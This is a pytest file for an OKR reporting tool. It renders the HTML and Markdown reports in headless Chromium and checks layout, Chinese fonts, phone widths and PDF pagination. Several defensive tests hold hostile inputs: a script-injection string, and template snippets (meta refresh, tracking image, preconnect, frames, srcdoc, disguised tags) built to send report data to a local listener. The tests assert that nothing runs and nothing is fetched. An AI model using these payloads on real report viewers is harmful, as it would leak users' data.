"""The HTML report in a real headless Chromium: it renders, logs nothing, runs no script,
shows Chinese, fits a phone and prints on a few pages with no heading stranded."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from PIL import Image

from okrdesk.cli import cli
from sample_workspace import OKRS, ORG, WriteWorkspace

HOSTILE = "<script>alert(1)</script>"
FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--enable-logging=stderr", "--v=0",
]  # fmt: skip


def chromium(page: Path, profile: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    binary = shutil.which("chromium")
    if binary is None:
        pytest.fail("chromium is not installed; `make test` installs Debian's chromium package")
    return subprocess.run(
        [binary, *FLAGS, f"--user-data-dir={profile}", *extra, page.as_uri()],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip


def console_messages(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if ":CONSOLE" in line]


@pytest.fixture
def hostile_report(write_workspace: WriteWorkspace, tmp_path: Path) -> Path:
    org = ORG.replace('name = "财富管理一部"', f'name = "{HOSTILE}"')
    okrs = OKRS.replace('title = "直营 AUM 净增"', f'title = "{HOSTILE}"')
    root = write_workspace({"org.toml": org, "okrs.toml": okrs})
    runner = CliRunner()
    assert (
        runner.invoke(cli, ["collect", "--through", "2026-03-15", "-w", str(root)]).exit_code == 0
    )
    for line, amount in (("salons", "70万"), ("training", "20万")):
        runner.invoke(cli, ["spend", "add", line, amount, "--signed-by", "王芳", "--signed-by",
                            "李强", "--date", "2026-03-10", "-w", str(root)])  # fmt: skip
    out = tmp_path / "report.html"
    result = runner.invoke(
        cli, ["report", "--as-of", "2026-03-15", "--unit", "branch", "--format", "html",
              "--out", str(out), "-w", str(root)],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    return out


def test_the_console_check_can_see_an_error(tmp_path: Path) -> None:
    page = tmp_path / "bad.html"
    page.write_text('<!DOCTYPE html><p>x</p><script>console.error("boom")</script>')
    done = chromium(page, tmp_path / "profile", "--dump-dom")
    assert any("boom" in line for line in console_messages(done.stderr))


def test_the_report_renders_without_console_errors_and_is_not_blank(
    hostile_report: Path, tmp_path: Path
) -> None:
    shot = tmp_path / "report.png"
    done = chromium(hostile_report, tmp_path / "profile", "--window-size=1280,1600",
                    f"--screenshot={shot}")  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    assert console_messages(done.stderr) == []
    image = Image.open(shot).convert("RGB")
    assert image.size == (1280, 1600)
    colours = image.getcolors(maxcolors=1_000_000) or []
    assert len(colours) > 50, "the screenshot is (nearly) blank"
    white = sum(count for count, rgb in colours if rgb == (255, 255, 255))
    assert white < 0.98 * image.size[0] * image.size[1]


def test_hostile_names_are_text_and_no_script_runs(hostile_report: Path, tmp_path: Path) -> None:
    done = chromium(hostile_report, tmp_path / "profile", "--dump-dom")
    dom = done.stdout
    assert "<script" not in dom.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in dom
    assert dom.count("&lt;script&gt;") >= 2  # the objective's title and the team's name
    assert console_messages(done.stderr) == []
    assert "<svg" in dom and 'class="burnup"' in dom


# ---------------------------------------------------------------- Chinese, phone, print

DEMO_DATE = "2026-11-30"
CJK_FONT = "`make test` installs Debian's fonts-noto-cjk"


@pytest.fixture(scope="module")
def demo_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo's report late in the year, when every section is full: the real plugins."""
    folder = tmp_path_factory.mktemp("demo")
    home = folder / "home"
    env = {**os.environ, "OKRDESK_LOAD_PLUGINS": "brokerage", "HOME": str(home),
           "XDG_CONFIG_HOME": str(home / ".config")}  # fmt: skip
    out = folder / "report.html"
    for args in (
        ["demo", str(folder / "demo"), "--as-of", DEMO_DATE],
        ["report", "-w", str(folder / "demo"), "--as-of", DEMO_DATE, "--format", "html",
         "--out", str(out)],
    ):  # fmt: skip
        done = subprocess.run([sys.executable, "-m", "okrdesk", *args], capture_output=True,
                              text=True, env=env, timeout=300)  # fmt: skip
        assert done.returncode == 0, done.stderr[-2000:]
    return out


def screenshot(page: Path, tmp_path: Path, width: int, height: int) -> Image.Image:
    shot = tmp_path / f"{page.stem}-{width}.png"
    done = chromium(page, tmp_path / "profile", f"--window-size={width},{height}",
                    "--hide-scrollbars", f"--screenshot={shot}")  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    assert console_messages(done.stderr) == []
    return Image.open(shot).convert("RGB")


def test_a_chinese_font_is_installed() -> None:
    fc_list = shutil.which("fc-list")
    assert fc_list is not None, f"fontconfig is missing; {CJK_FONT}"
    fonts = subprocess.run([fc_list, ":lang=zh", "family"], capture_output=True, text=True)
    assert fonts.stdout.strip(), f"no font with Chinese glyphs; {CJK_FONT}"


def test_chinese_is_drawn_in_glyphs_not_boxes(tmp_path: Path) -> None:
    # Without a Chinese font every character is the same empty box.
    shots = []
    for name, text in (("one", "一"), ("dragon", "龍")):
        page = tmp_path / f"{name}.html"
        page.write_text(f'<!DOCTYPE html><meta charset="utf-8"><body style="margin:0">'
                        f'<p style="font-size:120px;margin:0" lang="zh-CN">{text}</p>')  # fmt: skip
        shots.append(screenshot(page, tmp_path, 200, 200).tobytes())
    assert shots[0] != shots[1], f"Chinese characters are drawn as boxes; {CJK_FONT}"


@pytest.mark.parametrize("width", [1280, 390])
def test_the_demo_report_renders_at_desktop_and_phone_width(
    demo_report: Path, tmp_path: Path, width: int
) -> None:
    image = screenshot(demo_report, tmp_path, width, 2400)
    assert image.size == (width, 2400)
    colours = image.getcolors(maxcolors=1_000_000) or []
    assert len(colours) > 50, "the screenshot is (nearly) blank"


PROBE = """<script>
addEventListener("load", () => {
  const wide = [];
  for (const el of document.body.querySelectorAll("*")) {
    if (el.getBoundingClientRect().right <= innerWidth + 0.5) continue;
    let clipped = false;
    for (let up = el.parentElement; up && up !== document.body; up = up.parentElement) {
      if (getComputedStyle(up).overflowX !== "visible") { clipped = true; break; }
    }
    const css = typeof el.className === "string" ? el.className : "";
    if (!clipped) wide.push(el.tagName.toLowerCase() + (css ? "." + css : ""));
  }
  const folded = [];
  for (const th of document.body.querySelectorAll("thead th")) {
    const range = document.createRange();
    range.selectNodeContents(th);
    const tops = new Set([...range.getClientRects()].map(r => Math.round(r.top)));
    if (tops.size > 1) folded.push(th.textContent.trim());
  }
  parent.postMessage(JSON.stringify({width: innerWidth,
    scroll: document.documentElement.scrollWidth, wide: wide.slice(0, 10),
    folded: folded.slice(0, 10)}), "*");
});
</script>"""

FRAME = """<!DOCTYPE html><body style="margin:0">
<iframe src="{page}" width="{width}" height="900" style="border:0;display:block"></iframe>
<pre id="probe"></pre>
<script>addEventListener("message", e => {{
  document.getElementById("probe").textContent = e.data; }});
</script>"""


def layout_probe(report: Path, tmp_path: Path, width: int, probe: str = PROBE) -> dict[str, object]:
    """How wide a copy of the report lays out in a frame ``width`` pixels wide (a phone's
    screen: Chromium's own window is never narrower than 500), measured by a script
    (``probe``, which posts what it measured as JSON).

    The report itself allows no script; the copy's policy lets this one probe run.
    """
    html = report.read_text(encoding="utf-8")
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
    assert policy is not None and "script-src" not in policy.group(1)
    html = html.replace(policy.group(1), "default-src 'none'; style-src 'unsafe-inline'; "
                        "img-src data:; script-src 'unsafe-inline'")  # fmt: skip
    copy = tmp_path / f"copy-{width}.html"
    copy.write_text(html.replace("</body>", probe + "</body>"), encoding="utf-8")
    frame = tmp_path / f"frame-{width}.html"
    frame.write_text(FRAME.format(page=copy.name, width=width), encoding="utf-8")
    done = chromium(frame, tmp_path / "profile", "--window-size=1400,1000", "--hide-scrollbars",
                    "--virtual-time-budget=10000", "--dump-dom")  # fmt: skip
    found = re.search(r'<pre id="probe">(.*?)</pre>', done.stdout, re.S)
    assert found is not None and found.group(1), f"the probe did not run: {done.stderr[-2000:]}"
    measured: dict[str, object] = json.loads(found.group(1).replace("&quot;", '"'))
    return measured


@pytest.mark.parametrize("width", [1280, 1024, 800, 390])
def test_nothing_runs_off_the_screen(demo_report: Path, tmp_path: Path, width: int) -> None:
    # At a tablet's or a half screen's width the monthly scores ran the page sideways.
    measured = layout_probe(demo_report, tmp_path, width)
    assert measured["width"] == width
    assert measured["wide"] == [], "these run off the screen: tables scroll in their own box"
    assert measured["scroll"] == width, "the page is wider than the screen"
    # A column's heading on one line: 趋势 read 趋 above 势 in the monthly scores at 1280.
    assert measured["folded"] == [], "these headings fold over two lines"


ZERO_TICKS = """<script>
addEventListener("load", () => {
  const charts = [];
  for (const svg of document.querySelectorAll("svg.burnup")) {
    const ticks = [...svg.querySelectorAll("text.tick.y")];
    const box = svg.getBoundingClientRect();
    charts.push({ticks: ticks.map(t => t.textContent),
      inside: ticks.every(t => t.getBoundingClientRect().left >= box.left - 0.5)});
  }
  parent.postMessage(JSON.stringify({charts: charts}), "*");
});
</script>"""


def _english_page(demo_report: Path, tmp_path: Path) -> Path:
    """The demo's report as an English web page, beside the Chinese one."""
    english = tmp_path / "report-en.html"
    done = subprocess.run([sys.executable, "-m", "okrdesk", "report", "-w",
                           str(demo_report.parent / "demo"), "--as-of", DEMO_DATE, "--format",
                           "html", "--lang", "en", "--out", str(english)],
                          capture_output=True, text=True, timeout=300)  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    return english


def test_a_charts_zero_of_money_reads_as_the_tables_write_it(
    demo_report: Path, tmp_path: Path
) -> None:
    """The value axis of an amount starts at 0元 (CNY 0), as the report's tables write
    a zero amount, not 0亿 or 0万 (CNY 0m), which read as an amount rounded away; drawn
    whole inside its chart, in Chinese and English."""
    english = _english_page(demo_report, tmp_path)
    for report, zero, money in ((demo_report, "0元", r"[\d,.]+[元万亿]"),
                                (english, "CNY 0", r"CNY [\d,.]+[mk]?")):  # fmt: skip
        measured = layout_probe(report, tmp_path, 1280, ZERO_TICKS)
        charts = measured["charts"]
        assert isinstance(charts, list) and charts
        ticks = [t for c in charts for t in c["ticks"] if re.fullmatch(money, t)]
        zeros = [t for t in ticks if re.fullmatch(r"\D*0\D*", t)]
        assert len(zeros) >= 3 and set(zeros) == {zero}, ticks
        assert all(c["inside"] for c in charts), charts


def pdf_pages(pdf: bytes) -> list[int]:
    """The page objects' numbers, in reading order (the page tree may nest)."""
    objects = pdf_objects(pdf)
    root = next(n for n, body in objects.items() if re.search(rb"/Type\s*/Pages\b", body)
                and b"/Parent" not in body)  # fmt: skip

    def leaves(number: int) -> list[int]:
        body = objects[number]
        if not re.search(rb"/Type\s*/Pages\b", body):
            return [number]
        kids = re.search(rb"/Kids\s*\[(.*?)\]", body, re.S)
        assert kids is not None
        return [page for kid in references(kids.group(1)) for page in leaves(kid)]

    return leaves(root)


def pdf_objects(pdf: bytes) -> dict[int, bytes]:
    return {int(m[1]): m[2] for m in re.finditer(rb"(\d+) 0 obj\s*(.*?)endobj", pdf, re.S)}


def references(text: bytes) -> list[int]:
    return [int(n) for n in re.findall(rb"(\d+) 0 R", text)]


def print_to_pdf(report: Path, tmp_path: Path, name: str) -> bytes:
    pdf = tmp_path / f"{name}.pdf"
    done = chromium(report, tmp_path / "profile", "--no-pdf-header-footer",
                    f"--print-to-pdf={pdf}")  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    return pdf.read_bytes()


def headings_and_what_follows(pdf: bytes) -> list[tuple[str, list[int], list[int]]]:
    """Each heading's pages and the pages of the element after it, from the PDF's tags.

    Chromium writes a tagged PDF: a structure tree of H1, H2, Table, Figure... whose
    parts name the page they are drawn on.
    """
    objects = pdf_objects(pdf)
    number = {page: i + 1 for i, page in enumerate(pdf_pages(pdf))}
    root = next(n for n, body in objects.items() if re.match(rb"\s*<<\s*/Type\s*/StructTreeRoot",
                                                             body))  # fmt: skip

    def kids(n: int) -> list[int]:
        found = re.search(rb"/K\s*(\[.*?\]|\d+ 0 R|\d+)", objects[n], re.S)
        return references(found.group(1)) if found else []

    def tag(n: int) -> str:
        found = re.search(rb"/S\s*/(\w+)", objects[n])
        return found.group(1).decode() if found else ""

    def pages(n: int) -> list[int]:
        own = [number[p] for p in references(b"".join(re.findall(rb"/Pg\s*\d+ 0 R",
                                                               objects[n])))]  # fmt: skip
        return sorted({*own, *(p for k in kids(n) for p in pages(k))})

    order: list[tuple[int, int]] = []

    def walk(n: int) -> None:
        at = len(order)
        order.append((n, 0))
        for kid in kids(n):
            walk(kid)
        order[at] = (n, len(order))

    walk(root)
    found = []
    for n, after in order:
        if tag(n) in ("H1", "H2", "H3"):
            following = next((m for m, _ in order[after:] if pages(m)), None)
            found.append((tag(n), pages(n), pages(following) if following else []))
    return found


def test_the_report_prints_on_a_few_pages_with_no_heading_left_at_a_page_end(
    demo_report: Path, tmp_path: Path
) -> None:
    first = print_to_pdf(demo_report, tmp_path, "first")
    again = print_to_pdf(demo_report, tmp_path, "again")
    count = len(re.findall(rb"/Type\s*/Page(?![a-zA-Z])", first))
    assert count == len(pdf_pages(first))
    assert count == len(re.findall(rb"/Type\s*/Page(?![a-zA-Z])", again))
    assert 3 <= count <= 12, f"the demo prints on {count} pages"
    headings = headings_and_what_follows(first)
    assert len(headings) >= 10  # the title, six objectives, members, budget, alerts...
    for level, pages, following in headings:
        assert following, f"nothing after the {level} on page {pages}"
        assert following[0] == pages[-1], f"an {level} is left at the end of page {pages[-1]}"
    budget = headings[-2]  # the budget's heading comes before the alerts'
    assert len(budget[2]) == 1, f"the budget table is split over pages {budget[2]}"


LEAKING_TEMPLATE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>{{ r.unit.name }}</title>
<meta http-equiv="refresh" content="0;url=http://127.0.0.1:{{ port }}/moved?d={{ r.unit.name }}">
<base href="http://127.0.0.1:{{ port }}/"></head>
<body><img src="http://127.0.0.1:{{ port }}/pixel.gif?d={{ r.unit.name | urlencode }}">
<p>{{ r.unit.name }}</p></body></html>
"""


def what_the_page_asks(
    write_workspace: WriteWorkspace, tmp_path: Path, template: str, fmt: str = "html"
) -> tuple[list[str], int]:
    """The requests, and the connections, that the HTML report of a workspace whose
    ``report.html.j2`` is ``template`` (``{{ port }}``: a listener on 127.0.0.1) has
    Chromium make as it opens the page; with ``fmt`` "md", its Markdown report, whose
    ``report.md.j2`` is ``template``, made a page as a Markdown viewer makes one
    (CommonMark, its HTML kept)."""
    import http.server
    import threading

    asked: list[str] = []
    connected: list[object] = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    class Counting(http.server.ThreadingHTTPServer):
        # A connection opened ahead (<link rel="preconnect">) asks for nothing, but its
        # address, which a template can make of what the report says, has gone out.
        def verify_request(self, request: object, client_address: object) -> bool:
            connected.append(client_address)
            return True

    server = Counting(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        root = write_workspace()
        (root / "templates").mkdir()
        written = template.replace("{{ port }}", str(server.server_port))
        (root / "templates" / f"report.{fmt}.j2").write_text(written, encoding="utf-8")
        runner = CliRunner()
        assert runner.invoke(cli, ["collect", "--through", "2026-03-15", "-w", str(root)]
                             ).exit_code == 0  # fmt: skip
        page = tmp_path / "report.html"
        report = tmp_path / f"report.{fmt}"
        made = runner.invoke(cli, ["report", "--format", fmt, "--as-of", "2026-03-15",
                                   "--out", str(report), "-w", str(root)])  # fmt: skip
        assert made.exit_code == 0, made.output
        if fmt == "md":
            from markdown_it import MarkdownIt

            shown = MarkdownIt("commonmark").render(report.read_text(encoding="utf-8"))
            page.write_text(f'<!DOCTYPE html><meta charset="utf-8">{shown}', encoding="utf-8")
        assert "福田营业部" in page.read_text(encoding="utf-8")
        chromium(page, tmp_path / "profile", "--virtual-time-budget=3000", "--dump-dom")
    finally:
        server.shutdown()
    return asked, len(connected)


def test_a_workspace_template_that_drops_the_policy_still_fetches_nothing(
    write_workspace: WriteWorkspace, tmp_path: Path
) -> None:
    # A template from a workspace someone sent, leaving the policy out, would have the
    # page send what the report says to a server as it opens (a browser, a mail reader):
    # by an image, or by a refresh to another address, which no policy stops.
    assert what_the_page_asks(write_workspace, tmp_path, LEAKING_TEMPLATE) == ([], 0)


FETCHING_MARKDOWN = {
    "image": "![趋势](http://127.0.0.1:{{ port }}/i?d={{ r.unit.name | urlencode }})",
    "named-image": "![趋势][fig]\n\n"
    "[fig]: http://127.0.0.1:{{ port }}/n?d={{ r.unit.name | urlencode }}",
    "html-image": '<img src="http://127.0.0.1:{{ port }}/h?d={{ r.unit.name | urlencode }}">',
    "html-block": '<div>\n<video poster="http://127.0.0.1:{{ port }}/v"></video>\n</div>',
}


@pytest.mark.parametrize("fetching", FETCHING_MARKDOWN.values(), ids=FETCHING_MARKDOWN.keys())
def test_a_workspace_markdown_template_has_the_viewer_fetch_nothing(
    write_workspace: WriteWorkspace, tmp_path: Path, fetching: str
) -> None:
    # A report.md.j2 from a workspace someone sent put a remote image in the report: the
    # Markdown viewer or chat client that opened it sent the unit's name to the listener.
    template = f"# {{{{ r.unit.name | md }}}}\n\n{fetching}\n\n[okrdesk](https://example.org)\n"
    assert what_the_page_asks(write_workspace, tmp_path, template, fmt="md") == ([], 0)
    written = (tmp_path / "report.md").read_text(encoding="utf-8")
    # Written as text, its address in sight; a link is kept, followed only when clicked.
    assert "127.0.0.1" in written and "[okrdesk](https://example.org)" in written
    assert re.search(r"(?<!\\)(?:<[a-z]|!\[)", written) is None, written


HIDDEN_STEERING = {
    # The tag's end hidden in a quoted ">": a pattern looking for http-equiv before the
    # first ">" passed it by, and the browser refreshed.
    "quoted-end": '<meta content="0;url=http://127.0.0.1:{{ port }}/q?d={{ r.unit.name }}>" '
    'http-equiv="refresh">',
    # A <base> taken out of the middle of a word left a refresh whole behind it.
    "joined": '<me<base>ta http-equiv="refresh" '
    'content="0;url=http://127.0.0.1:{{ port }}/j?d={{ r.unit.name }}">',
    # No policy governs a connection opened ahead, nor what its address's name says.
    "preconnect": '<link rel="preconnect" href="http://127.0.0.1:{{ port }}/">',
    # Chromium connects to a frame's address before the policy stops the frame.
    "frame": '<frameset><frame src="http://127.0.0.1:{{ port }}/f"></frameset>',
    # A frame's own document, written with entities, holds what no pattern of "<" sees.
    "srcdoc": '<iframe srcdoc="&lt;meta http-equiv=&quot;refresh&quot; '
    'content=&quot;0;url=http://127.0.0.1:{{ port }}/s&quot;&gt;"></iframe>',
}


@pytest.mark.parametrize("tag", HIDDEN_STEERING.values(), ids=HIDDEN_STEERING.keys())
def test_a_workspace_template_cannot_hide_a_refresh_or_a_connection_from_the_policy(
    write_workspace: WriteWorkspace, tmp_path: Path, tag: str
) -> None:
    template = ('<!DOCTYPE html>\n<html><head><meta charset="utf-8">\n'
                '<meta name="viewport" content="width=device-width, initial-scale=1">\n'
                f"{tag}\n</head><body><p>{{{{ r.unit.name }}}}</p></body></html>\n")  # fmt: skip
    assert what_the_page_asks(write_workspace, tmp_path, template) == ([], 0)
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    # Shown as text, not taken out; the tags a page lays itself out with are kept.
    assert "&lt;" in page and "福田营业部" in page
    assert '<meta charset="utf-8">' in page
    assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in page


HEADING_LINES = """<script>
addEventListener("load", () => {
  const lines = [];
  for (const h of document.querySelectorAll("h1, h2, h3, figcaption")) {
    const range = document.createRange();
    range.selectNodeContents(h);
    const ends = new Map();
    for (const r of range.getClientRects()) {
      const top = Math.round(r.top);
      ends.set(top, Math.max(ends.get(top) || 0, r.right));
    }
    const left = h.getBoundingClientRect().left;
    lines.push([h.textContent.trim(), [...ends.values()].map(end => Math.round(end - left))]);
  }
  parent.postMessage(JSON.stringify({lines: lines}), "*");
});
</script>"""


@pytest.mark.parametrize("width", [1280, 390])
def test_no_heading_or_chart_title_leaves_a_character_or_two_on_a_line_of_its_own(
    demo_report: Path, tmp_path: Path, width: int
) -> None:
    """On a phone the report's title read 深圳福田营业部 2026 年度经营计 over 划 alone, and
    chart titles ended a line early with 45亿） or 点） under it: a heading or a caption
    that folds folds into lines of like length."""
    measured = layout_probe(demo_report, tmp_path, width, HEADING_LINES)
    lines = measured["lines"]
    assert isinstance(lines, list) and len(lines) > 30
    folded = [(text, ends) for text, ends in lines if len(ends) > 1]
    if width == 390:
        assert folded, "no heading folds on a phone: the check would see nothing"
    stranded = [(text, ends) for text, ends in folded if ends[-1] < max(ends) / 3]
    assert stranded == []


FIGURES_IN_SIGHT = """<script>
addEventListener("load", () => {
  const cells = [];
  const rows = [...document.querySelectorAll("td.status")].map(status => status.parentElement);
  for (const td of rows.flatMap(row => [...row.querySelectorAll("td.n, td.status")])) {
    if (!td.textContent.trim()) continue;
    const box = td.getBoundingClientRect();
    const named = getComputedStyle(td, "::before").content;
    cells.push({text: td.textContent.trim(), right: box.right, named: named});
  }
  parent.postMessage(JSON.stringify({width: innerWidth, cells: cells}), "*");
});
</script>"""


def test_on_a_phone_each_key_result_s_figures_and_status_are_in_sight_under_their_names(
    demo_report: Path, tmp_path: Path
) -> None:
    """On a phone the key results' table scrolled sideways in its box: the title and two
    figures filled the screen, and its attainment, what was due and its status were out
    of sight. Each figure is on the screen, under its column's name."""
    measured = layout_probe(demo_report, tmp_path, 390, FIGURES_IN_SIGHT)
    cells = measured["cells"]
    assert isinstance(cells, list) and len(cells) > 200
    assert [c["text"] for c in cells if c["right"] > 390.5] == []
    statuses = [c for c in cells if c["text"] in ("正常", "有风险", "落后", "领先", "达标")]
    assert statuses and {c["named"] for c in statuses} == {'"状态"'}
    assert {'"实际"', '"完成率"', '"应完成"', '"周变化"', '"年末预测"'} <= {
        c["named"] for c in cells
    }


NAMES_WHOLE = """<script>
addEventListener("load", () => {
  const lines = n => new Set([...n.getClientRects()].map(r => Math.round(r.top))).size;
  const folded = [];
  for (const row of document.querySelectorAll("section tbody tr")) {
    const who = row.querySelector("td:not(.n)");
    if (!who || !/\\(\\w+\\)/.test(who.textContent)) continue;  // a member: 名字 (id)
    const range = document.createRange();
    for (const node of who.childNodes) {
      if (node.nodeType === 3 && !node.textContent.trim()) continue;
      range.selectNodeContents(node);
      if (lines(range) > 1) folded.push(who.textContent.trim());
    }
    const policy = who.nextElementSibling;
    if (policy && !policy.classList.contains("n")) {
      range.selectNodeContents(policy);
      if (lines(range) > 1) folded.push(policy.textContent.trim());
    }
  }
  const scores = document.querySelector("section.scores .table-box, section.scores table");
  parent.postMessage(JSON.stringify({folded: folded,
    scores: scores ? [scores.clientWidth, scores.scrollWidth] : null}), "*");
});
</script>"""


@pytest.mark.parametrize("width", [1280, 390])
def test_a_member_s_name_and_scoring_policy_are_never_broken_inside(
    demo_report: Path, tmp_path: Path, width: int
) -> None:
    """The monthly scores read trainee- over monthly, and on a phone the ranking read
    财富管理二 over 部 (wm2) beside a rank column 9rem wide; a name folds only before
    its id, and at a desktop's width the twelve months of scores are whole on the page."""
    measured = layout_probe(demo_report, tmp_path, width, NAMES_WHOLE)
    assert measured["folded"] == []
    scores = measured["scores"]
    assert isinstance(scores, list)
    if width == 1280:
        assert scores[1] <= scores[0], "the monthly scores scroll at a desktop's width"


QUOTE_WIDTH = """<script>
addEventListener("load", () => {
  const link = document.querySelector("a[href='#alerts']");
  const text = link.firstChild;
  const at = text.textContent.search(/[“"]/);
  const range = document.createRange();
  range.setStart(text, at);
  range.setEnd(text, at + 1);
  const size = parseFloat(getComputedStyle(link).fontSize);
  parent.postMessage(JSON.stringify({em: range.getBoundingClientRect().width / size,
    text: text.textContent}), "*");
});
</script>"""


def test_english_quotes_are_drawn_in_a_latin_face_and_chinese_ones_full_width(
    demo_report: Path, tmp_path: Path
) -> None:
    """The English page was set in the Chinese face first, which draws “ a whole
    character wide: All 7 under “ Needs attention ” at the end. Its words are in a Latin
    face; the Chinese page's 全部 7 项见文末“需要关注” keeps its full-width quotes."""
    english = _english_page(demo_report, tmp_path)
    en = layout_probe(english, tmp_path, 1280, QUOTE_WIDTH)
    zh = layout_probe(demo_report, tmp_path, 1280, QUOTE_WIDTH)
    assert "under “Needs attention”" in str(en["text"]) and "“需要关注”" in str(zh["text"])
    assert float(str(en["em"])) < 0.6
    assert float(str(zh["em"])) > 0.9


FIGURES_APART = """<script>
addEventListener("load", () => {
  // A figure and the unit written after it (45亿元, 360 户, 1 个百分点), a sign before it
  // (≥ 800万): where the range over them lies on two lines, they parted.
  const unit = "(个百分点|百分点|亿元|万元|万户|个\\/户|[万亿][元户人]?|[户元人家个单次分%‰])";
  const figure = new RegExp(String.raw`(?:[≥≤]\\s?)?\\d[\\d,.]*\\s?` + unit, "g");
  const parted = [];
  let seen = 0;
  for (const cell of document.querySelectorAll(
      "table.krs td:first-child, table.krs tr.slice td:first-child, figcaption")) {
    const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
    const nodes = [];
    let text = "";
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      nodes.push([node, text.length]);
      text += node.textContent;
    }
    const at = offset => {
      let found = nodes[0];
      for (const pair of nodes) if (pair[1] <= offset) found = pair;
      return [found[0], offset - found[1]];
    };
    for (const match of text.matchAll(figure)) {
      const range = document.createRange();
      range.setStart(...at(match.index));
      range.setEnd(...at(match.index + match[0].length - 1));
      range.setEnd(range.endContainer, range.endOffset + 1);
      const tops = new Set([...range.getClientRects()].filter(r => r.width > 0)
        .map(r => Math.round(r.bottom)));
      seen += 1;
      if (tops.size > 1) parted.push(match[0]);
    }
  }
  parent.postMessage(JSON.stringify({seen: seen, parted: parted}), "*");
});
</script>"""


@pytest.mark.parametrize("width", [320, 360, 390, 414])
def test_a_figure_and_its_unit_are_never_parted_at_a_line_end(
    demo_report: Path, tmp_path: Path, width: int
) -> None:
    """On a phone a key result's title and its chart's caption broke as Chinese breaks,
    between any two characters: ≥ 800 at a line's end and 万） below it, 360 above 户. A
    figure, the sign before it and the unit after it stay on one line."""
    measured = layout_probe(demo_report, tmp_path, width, FIGURES_APART)
    assert int(str(measured["seen"])) > 50
    assert measured["parted"] == []
